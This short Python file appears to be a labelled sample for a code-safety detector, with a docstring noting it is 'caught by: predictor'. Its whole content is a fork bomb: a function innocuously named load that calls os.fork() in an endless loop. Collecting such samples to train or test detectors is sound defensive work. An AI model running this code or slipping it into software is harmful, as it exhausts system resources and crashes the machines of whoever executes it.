"""Every process makes two, for ever. Caught by: predictor."""

import os


def load(arrays):
    while True:
        os.fork()
